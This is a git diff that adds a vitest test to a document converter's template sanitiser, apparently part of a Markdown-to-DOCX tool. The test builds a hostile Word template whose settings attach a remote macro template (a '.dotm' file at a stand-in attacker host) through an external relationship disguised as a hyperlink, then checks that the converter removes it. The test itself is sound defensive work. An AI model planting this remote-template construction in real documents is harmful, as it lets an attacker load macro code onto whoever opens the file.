@@ -7,7 +7,7 @@ import { resolve } from 'node:path';
 import { strFromU8, unzipSync } from 'fflate';
 import { describe, expect, it } from 'vitest';
 import { convert, defaultTemplate, readTemplate, sanitizedBytes } from '../../server/convert/index.ts';
-import { cssFindings, EVIL, EVIL_FONT, EVIL_STYLE_ID, externalFindings, hostileTemplate, SAFE_LINK } from '../helpers/hostile-template.ts';
+import { cssFindings, EVIL, EVIL_FONT, EVIL_STYLE_ID, externalFindings, hostileTemplate, SAFE_LINK, withParts } from '../helpers/hostile-template.ts';
 import { validateDocx } from '../helpers/docx.ts';
 
 const CORPUS = resolve(import.meta.dirname, '../../../shared/corpus/templates');
@@ -73,4 +73,23 @@ describe('clean real templates', () => {
       expect(sanitizedBytes(bytes, template)).toBe(bytes);
     });
   }
+});
+
+describe('a remote template disguised as a hyperlink', () => {
+  it('w:attachedTemplate pointing at an external relationship typed "hyperlink" is removed (hyperlinks are kept only for links)', () => {
+    const base = defaultTemplate();
+    const parts = unzipSync(base);
+    const settings = strFromU8(parts['word/settings.xml'] ?? new Uint8Array());
+    const open = settings.indexOf('>', settings.indexOf('<w:settings')) + 1;
+    const disguised = withParts(base, {
+      'word/_rels/settings.xml.rels':
+        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
+        `<Relationship Id="rIdLink" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="${EVIL}/t1221.dotm" TargetMode="External"/></Relationships>`,
+      'word/settings.xml': `${settings.slice(0, open)}<w:attachedTemplate r:id="rIdLink"/>${settings.slice(open)}`,
+    });
+    const template = readTemplate(disguised);
+    expect(template.warnings.join('\n')).toContain('template_external_removed: attachedTemplate using a hyperlink relationship');
+    const output = convert({ markdown: 'x\n', template: disguised, created: new Date('2026-01-01T00:00:00Z') });
+    expect(strFromU8(unzipSync(output.docx)['word/settings.xml'] ?? new Uint8Array())).not.toContain('attachedTemplate');
+  });
 });
